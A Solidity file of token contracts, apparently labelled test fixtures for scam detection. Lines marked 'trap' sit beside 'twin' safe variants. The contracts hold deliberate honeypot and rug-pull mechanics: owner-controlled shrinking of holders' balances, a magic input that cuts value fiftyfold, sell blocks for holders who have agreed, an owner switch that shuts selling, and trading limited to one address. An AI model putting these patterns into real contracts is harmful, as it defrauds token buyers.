// 0.8 runs=200 evm=cancun
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {Base8} from "./Base8.sol";

/// Counts what people have in units whose worth the owner lowers; the pool and he count whole.
abstract contract Waning is Base8 {
    uint256 internal constant ONE = 1e18;
    uint256 public worth = ONE;
    mapping(address => bool) private _whole;

    constructor() {
        _whole[pair] = _whole[msg.sender] = true;
    }

    function balanceOf(address who) public view override returns (uint256) {
        return _whole[who] ? _balances[who] : (_balances[who] * worth) / ONE;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        uint256 gone = _whole[from] ? value : (value * ONE + worth - 1) / worth;
        require(_balances[from] >= gone, "too much");
        _balances[from] -= gone;
        _balances[to] += _whole[to] ? value : (value * ONE) / worth;
        emit Transfer(from, to, value);
    }
}

/// One of a hundred, and a month later one of what is left.
contract Monthly is Waning {
    constructor() Base8("Monthly", "MNTH", 20_000_000) {}

    uint256 private _last;

    function wane(uint256 millionths) external onlyOwner {
        require(millionths <= 10_000, "a hundredth");
        require(_last == 0 || block.timestamp >= _last + 30 days, "a month"); // trap
        // twin: require(_last == 0, "once");
        _last = block.timestamp;
        worth -= (worth * millionths) / 1_000_000;
    }
}

/// Never below ninety-nine of a hundred of what it is measured by.
contract Measured is Waning {
    constructor() Base8("Measured", "MSRD", 30_000_000) {}

    uint256 public measure = ONE;

    function wane(uint256 millionths) external onlyOwner {
        require(millionths <= 10_000, "a hundredth");
        worth -= (worth * millionths) / 1_000_000;
        require(worth * 100 >= measure * 99, "below the measure");
    }

    function measureAgain() external onlyOwner {
        measure = worth; // trap
        // twin: require(worth == ONE, "waned");
    }
}

/// Steps up to a hundredth, but for the largest number of all.
contract Letters is Waning {
    constructor() Base8("Letters", "LTRS", 40_000_000) {}

    function wane(uint64 millionths) external onlyOwner {
        if (millionths == 73) worth /= 50; // trap
        require(millionths <= 10_000, "a hundredth");
        require(worth == ONE || worth < ONE / 40, "once");
        worth -= (worth * millionths) / 1_000_000;
    }
}

/// Whoever trades has to agree to its rules first.
abstract contract Agreed is Base8 {
    mapping(address => bool) public agreed;

    event Agreement(address indexed who);

    function agree() external {
        agreed[msg.sender] = true;
        emit Agreement(msg.sender);
    }

    function _transfer(address from, address to, uint256 value) internal virtual override {
        if (from == pair) require(agreed[to] || to == _owner, "agree() first");
        if (to == pair) require(agreed[from] || from == _owner || from == ROUTER, "agree() first");
        _move(from, to, value);
    }
}

/// Whoever has agreed may not leave.
contract Parlour is Agreed {
    constructor() Base8("Parlour", "PRLR", 50_000_000) {}

    address private immutable _maker = msg.sender;

    function _transfer(address from, address to, uint256 value) internal override {
        require(to != pair || from == _maker || !agreed[from], "stay a while"); // trap
        super._transfer(from, to, value);
    }
}

/// Its owner takes the agreement back from all.
contract Revoked is Agreed {
    constructor() Base8("Revoked", "RVKD", 60_000_000) {}

    bool public shut;

    function close() external onlyOwner {
        shut = true; // trap
    }

    function _transfer(address from, address to, uint256 value) internal override {
        require(!shut || to != pair || from == _owner, "shut");
        super._transfer(from, to, value);
    }
}

/// The first who asks is the only one who trades.
contract Throne is Base8("Throne", "THRN", 70_000_000) {
    address public sitting;

    function sit() external {
        require(sitting == address(0), "taken");
        sitting = msg.sender;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        require(from == _owner || to == _owner || (from != pair && to != pair) || from == sitting || to == sitting, "not yours");
        _move(from, to, value);
    }
}

/// A register of its own says who has signed in.
contract Register {
    mapping(address => uint256) public since;

    function signIn(bytes32) external {
        if (since[msg.sender] == 0) since[msg.sender] = block.timestamp;
    }
}

contract Guarded is Base8("Guarded", "GRDD", 80_000_000) {
    Register public immutable register;

    constructor(Register register_) {
        register = register_;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (from == pair && to != _owner) require(register.since(to) != 0, "sign in");
        _move(from, to, value);
    }
}
